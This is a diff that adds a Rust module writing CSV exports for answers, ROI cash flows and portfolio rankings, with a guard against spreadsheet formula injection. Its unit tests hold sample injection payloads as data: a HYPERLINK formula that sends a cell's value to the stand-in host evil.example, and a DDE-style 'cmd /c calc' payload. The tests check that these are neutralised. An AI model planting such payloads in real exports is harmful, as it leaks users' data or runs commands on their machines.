@@ -1,0 +1,277 @@
+//! CSV exports: one writer for every file Sextant exports as CSV.
+//!
+//! Texts may come from someone else (a shared portfolio's project names), and
+//! a spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a
+//! carriage return as a formula. [`Csv`] writes such a text cell with a
+//! leading `'`, which spreadsheets show as text, and quotes any cell with a
+//! comma, a quote or a line break (RFC 4180). Numbers are written by the
+//! writer itself from `f64`, so a negative number stays a number.
+
+use crate::domain::assess::{Answer, Answers, Pack};
+use crate::domain::roi::RoiResults;
+
+/// One cell of a row.
+#[derive(Clone, Copy, Debug, PartialEq)]
+pub enum Cell<'a> {
+    /// Text, neutralised and quoted as needed.
+    Text(&'a str),
+    /// A number with this many decimals; empty when it is not finite.
+    Number(f64, usize),
+    /// A number written as Rust writes it (shortest form that reads back).
+    Plain(f64),
+    /// Nothing.
+    Empty,
+}
+
+/// A CSV file being written, header first.
+#[derive(Debug)]
+pub struct Csv {
+    out: String,
+}
+
+impl Csv {
+    /// A file with this header row.
+    pub fn new(header: &[&str]) -> Csv {
+        let mut csv = Csv { out: String::new() };
+        csv.row(&header.iter().map(|h| Cell::Text(h)).collect::<Vec<_>>());
+        csv
+    }
+
+    /// Adds a row.
+    pub fn row(&mut self, cells: &[Cell]) {
+        for (i, cell) in cells.iter().enumerate() {
+            if i > 0 {
+                self.out.push(',');
+            }
+            match *cell {
+                Cell::Text(s) => self.out.push_str(&text(s)),
+                Cell::Number(v, decimals) if v.is_finite() => {
+                    self.out.push_str(&format!("{v:.decimals$}"))
+                }
+                Cell::Plain(v) if v.is_finite() => self.out.push_str(&format!("{v}")),
+                Cell::Number(..) | Cell::Plain(_) | Cell::Empty => {}
+            }
+        }
+        self.out.push('\n');
+    }
+
+    /// The file's text.
+    pub fn finish(self) -> String {
+        self.out
+    }
+}
+
+/// A text cell: `'` before a leading `= + - @`, tab or CR, so that a
+/// spreadsheet never runs it; quoted when it holds a comma, a quote or a
+/// line break.
+pub fn text(s: &str) -> String {
+    let neutral = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{s}")
+    } else {
+        s.to_string()
+    };
+    if neutral.contains([',', '"', '\n', '\r']) {
+        format!("\"{}\"", neutral.replace('"', "\"\""))
+    } else {
+        neutral
+    }
+}
+
+/// The answers of a run as CSV, one row a shown item in pack order:
+/// section, item id, question, value ("na" or empty when unanswered), level.
+pub fn answers(pack: &Pack, answers: &Answers) -> String {
+    let mut csv = Csv::new(&["section", "item", "question", "value", "level"]);
+    for s in pack.shown_sections(answers) {
+        for item in pack.shown_items(s, answers) {
+            let (value, level) = match answers.get(&item.id) {
+                Some(Answer::Level(v)) => (
+                    Cell::Plain(*v),
+                    item.level(*v).map(|l| l.label.as_str()).unwrap_or_default(),
+                ),
+                Some(Answer::NotApplicable) => (Cell::Text("na"), "Not applicable"),
+                None => (Cell::Empty, ""),
+            };
+            csv.row(&[
+                Cell::Text(&s.title),
+                Cell::Text(&item.id),
+                Cell::Text(&item.prompt),
+                value,
+                Cell::Text(level),
+            ]);
+        }
+    }
+    csv.finish()
+}
+
+/// The monthly cash flows of an ROI model as CSV: one row a period, month 0
+/// first, amounts to the cent.
+pub fn cash_flows(r: &RoiResults) -> String {
+    let mut csv = Csv::new(&[
+        "month",
+        "development",
+        "infrastructure",
+        "maintenance",
+        "benefit",
+        "tax",
+        "net",
+        "cumulative",
+    ]);
+    for (i, (m, c)) in r.months.iter().zip(&r.cumulative).enumerate() {
+        csv.row(&[
+            Cell::Number(i as f64, 0),
+            Cell::Number(m.development, 2),
+            Cell::Number(m.infrastructure, 2),
+            Cell::Number(m.maintenance, 2),
+            Cell::Number(m.benefit, 2),
+            Cell::Number(m.tax, 2),
+            Cell::Number(m.net(), 2),
+            Cell::Number(*c, 2),
+        ]);
+    }
+    csv.finish()
+}
+
+/// One project in a portfolio's ranking: its rank (none when it cannot be
+/// ranked), name, and its score by each method (weighted, RICE, WSJF, ICE).
+#[derive(Clone, Debug, PartialEq)]
+pub struct RankedProject<'a> {
+    /// 1-based rank.
+    pub rank: Option<u32>,
+    /// The project's name as its owner typed it.
+    pub name: &'a str,
+    /// Scores by method, `None` where unavailable.
+    pub scores: [Option<f64>; 4],
+}
+
+/// A portfolio's ranking as CSV, scores to four decimals.
+pub fn ranking(rows: &[RankedProject]) -> String {
+    let mut csv = Csv::new(&["rank", "project", "weighted", "rice", "wsjf", "ice"]);
+    for r in rows {
+        let score = |i: usize| r.scores[i].map_or(Cell::Empty, |v| Cell::Number(v, 4));
+        csv.row(&[
+            r.rank.map_or(Cell::Empty, |n| Cell::Number(n as f64, 0)),
+            Cell::Text(r.name),
+            score(0),
+            score(1),
+            score(2),
+            score(3),
+        ]);
+    }
+    csv.finish()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_text_a_spreadsheet_would_run_is_written_as_text() {
+        assert_eq!(text("=1+1"), "'=1+1");
+        assert_eq!(text("+1"), "'+1");
+        assert_eq!(text("-2"), "'-2");
+        assert_eq!(text("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(text("\tx"), "'\tx");
+        assert_eq!(text("\rx"), "\"'\rx\"");
+        assert_eq!(
+            text("=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")"),
+            "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Open\"\")\""
+        );
+        assert_eq!(text("Churn, v2"), "\"Churn, v2\"");
+        assert_eq!(text("a \"b\""), "\"a \"\"b\"\"\"");
+        assert_eq!(text("plain"), "plain");
+        assert_eq!(text(""), "");
+    }
+
+    #[test]
+    fn numbers_stay_numbers_negative_ones_included() {
+        let mut csv = Csv::new(&["a", "b", "c", "d"]);
+        csv.row(&[
+            Cell::Number(-10_000.0, 2),
+            Cell::Plain(0.5),
+            Cell::Number(f64::NAN, 2),
+            Cell::Empty,
+        ]);
+        assert_eq!(csv.finish(), "a,b,c,d\n-10000.00,0.5,,\n");
+    }
+
+    #[test]
+    fn a_shared_portfolios_ranking_plants_no_formula() {
+        let csv = ranking(&[
+            RankedProject {
+                rank: Some(1),
+                name: "=HYPERLINK(\"https://evil.example\",\"Open\")",
+                scores: [Some(3.25), None, Some(-1.0), Some(12.0)],
+            },
+            RankedProject {
+                rank: None,
+                name: "@SUM(1+1)*cmd|'/c calc'!A0",
+                scores: [None; 4],
+            },
+        ]);
+        let lines: Vec<_> = csv.lines().collect();
+        assert_eq!(lines[0], "rank,project,weighted,rice,wsjf,ice");
+        assert_eq!(
+            lines[1],
+            "1,\"'=HYPERLINK(\"\"https://evil.example\"\",\"\"Open\"\")\",3.2500,,-1.0000,12.0000"
+        );
+        assert_eq!(lines[2], ",'@SUM(1+1)*cmd|'/c calc'!A0,,,,");
+    }
+
+    #[test]
+    fn answers_list_every_shown_item() {
+        let pack = crate::domain::packs::SKILLS.load().unwrap();
+        let first = &pack.sections[0].items[0];
+        let mut given = Answers::new();
+        given.insert(first.id.clone(), Answer::Level(first.levels[1].value));
+        let csv = answers(&pack, &given);
+        let lines: Vec<_> = csv.lines().collect();
+        assert_eq!(lines[0], "section,item,question,value,level");
+        assert!(
+            lines[1].contains(&format!(",{},", first.id))
+                && lines[1].ends_with(&text(&first.levels[1].label)),
+            "{}",
+            lines[1]
+        );
+        let shown: usize = pack
+            .shown_sections(&given)
+            .into_iter()
+            .map(|s| pack.shown_items(s, &given).len())
+            .sum();
+        assert_eq!(lines.len(), 1 + shown);
+    }
+
+    #[test]
+    fn cash_flows_have_a_row_a_period() {
+        let model = crate::domain::roi::RoiModel {
+            horizon_years: 1,
+            team: vec![crate::domain::roi::TeamMember {
+                role: "ML engineer".into(),
+                headcount: 1.0,
+                monthly_cost: 10_000.0,
+                months: 2.0,
+            }],
+            benefits: crate::domain::roi::Benefits {
+                revenue_uplift_monthly: 5_000.0,
+                ..crate::domain::roi::RoiModel::default().benefits
+            },
+            money: crate::domain::roi::Money {
+                discount_rate: 0.0,
+                ..crate::domain::roi::RoiModel::default().money
+            },
+            ..crate::domain::roi::RoiModel::default()
+        };
+        let csv = cash_flows(&model.evaluate().unwrap());
+        let lines: Vec<_> = csv.lines().collect();
+        assert_eq!(lines.len(), 14);
+        assert_eq!(
+            lines[0],
+            "month,development,infrastructure,maintenance,benefit,tax,net,cumulative"
+        );
+        assert_eq!(lines[1], "0,0.00,0.00,0.00,0.00,0.00,0.00,0.00");
+        assert_eq!(
+            lines[2],
+            "1,10000.00,0.00,0.00,0.00,0.00,-10000.00,-10000.00"
+        );
+        assert_eq!(lines[13], "12,0.00,0.00,0.00,5000.00,0.00,5000.00,30000.00");
+    }
+}
